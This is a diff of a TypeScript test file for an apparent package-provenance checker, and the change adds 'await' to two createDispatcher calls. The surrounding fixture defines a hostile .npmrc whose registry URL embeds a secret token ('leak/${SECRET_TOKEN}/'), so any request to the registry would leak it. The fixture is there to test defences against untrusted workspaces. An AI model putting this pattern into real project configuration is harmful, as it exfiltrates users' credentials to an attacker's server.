@@ -41,7 +41,7 @@ describe('provenance/workspace-check: what an untrusted workspace can and cannot
   beforeEach(async () => {
     user = await startRegistryServer();
     hostile = await startRegistryServer({ mode: 'regression' });
-    dispatcher = createDispatcher({}, {});
+    dispatcher = await createDispatcher({}, {});
     ws = provenanceWorkspace(user.url, [...ATTESTED, ...SIGNED], undefined, {
       projectNpmrc: `registry=${hostile.url}leak/\${SECRET_TOKEN}/\n`,
       env: { SECRET_TOKEN: SECRET },
@@ -116,7 +116,7 @@ describe('provenance/workspace-check offline: no connection of any kind', () => 
     proxy = await startProxyServer();
     ws = provenanceWorkspace(registry.url, [...ATTESTED, ...SIGNED]);
     store = await openStore(ws.env.CHAINSIGHT_STORE!);
-    dispatcher = createDispatcher({ proxy: proxy.url, noProxy: '' }, {});
+    dispatcher = await createDispatcher({ proxy: proxy.url, noProxy: '' }, {});
   });
   afterEach(async () => {
     await store.close();
